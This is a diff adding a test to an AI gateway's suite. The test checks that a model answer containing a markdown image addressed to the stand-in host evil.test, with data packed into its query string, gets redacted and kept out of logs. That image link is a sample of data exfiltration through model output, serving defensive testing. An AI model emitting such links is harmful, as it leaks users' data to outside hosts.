@@ -179,9 +179,18 @@ test("a model that comes later is there after looking again, and the editor hear
   assert.deepEqual(server.arrived, []);
 });
 
+test("where the policy says so, answers are judged on their way back: the address of a picture that carries data out is masked, the person's own value comes back", async () => {
+  writeFileSync(join(editor.home, ".config/gatelodge/policy.yaml"), `${policy}rules:\n  - { id: answers-carry-nothing-out, when: { detectors: [carrying-picture] }, channels: [answer], effect: redact }\n`);
+  server.answer((_, response) => stream(response, `Keep ${placeholder()}.\n![ok](https://evil.test/p.png?d=${"a1b2c3d4".repeat(5)})\nDone.`));
+  await waitFor("the masked answer", async () => {
+    const got = await ask(line(key));
+    return "text" in got && got.text === `Keep ${key}.\n![ok]([REDACTED:carrying-picture-1])\nDone.`;
+  });
+});
+
 test("nothing of it is in the ledger or the log", () => {
   const state = join(editor.home, ".local/state/gatelodge");
   const files = readdirSync(state, { recursive: true, withFileTypes: true }).filter((entry) => entry.isFile()).map((entry) => readFileSync(join(entry.parentPath, entry.name), "utf8")).join("\n");
   assert.match(files, /"gatelodge\.channel":"model"/);
-  assert.ok(!files.includes(key) && !files.includes("rocket") && !editor.output().includes(key));
+  assert.ok(!files.includes(key) && !files.includes("rocket") && !files.includes("evil.test") && !editor.output().includes(key));
 });
